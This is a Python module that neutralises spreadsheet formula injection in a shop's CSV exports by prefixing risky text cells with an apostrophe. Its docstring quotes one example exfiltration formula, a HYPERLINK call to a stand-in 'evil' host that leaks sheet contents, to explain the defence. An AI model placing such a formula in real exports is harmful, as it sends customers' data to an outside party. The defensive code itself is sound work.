"""CSV cells a spreadsheet cannot run (formula injection, CWE-1236).

Names, companies and addresses come from shop customers. Opened in Excel or
LibreOffice, a cell beginning with ``=``, ``+``, ``-`` or ``@`` is read as a
formula (``=HYPERLINK("http://evil/?"&A1, "Click")`` leaks the sheet), and a
leading TAB or CR is stripped by some importers to reveal one. Every CSV this
program writes for people (manifests, the fulfilment export, return reports)
goes through :func:`safe_writer`, which prefixes such a text cell with an
apostrophe: spreadsheets show the text as typed (the apostrophe is hidden in
Excel) and never evaluate it.

Numbers handed in as ``int``/``float``/``Decimal`` are written as they are: a
negative quantity is data, not a formula. A *string* that merely looks
numeric (``"-3"``) is neutralised like any other, because a caller who
formats numbers as text can as well pass the number.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(cell: Any) -> Any:
    """``cell`` made safe to open in a spreadsheet; non-text values unchanged."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(c) for c in row]


class SafeWriter:
    """``csv.writer`` whose every cell goes through :func:`neutralise`."""

    def __init__(self, fh: IO[str], **fmt: Any) -> None:
        self._w = csv.writer(fh, **fmt)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._w.writerow(neutralise_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_writer(fh: IO[str], **fmt: Any) -> SafeWriter:
    """A CSV writer for files people open in a spreadsheet."""
    return SafeWriter(fh, **fmt)


__all__ = ["FORMULA_STARTS", "SafeWriter", "neutralise", "neutralise_row", "safe_writer"]
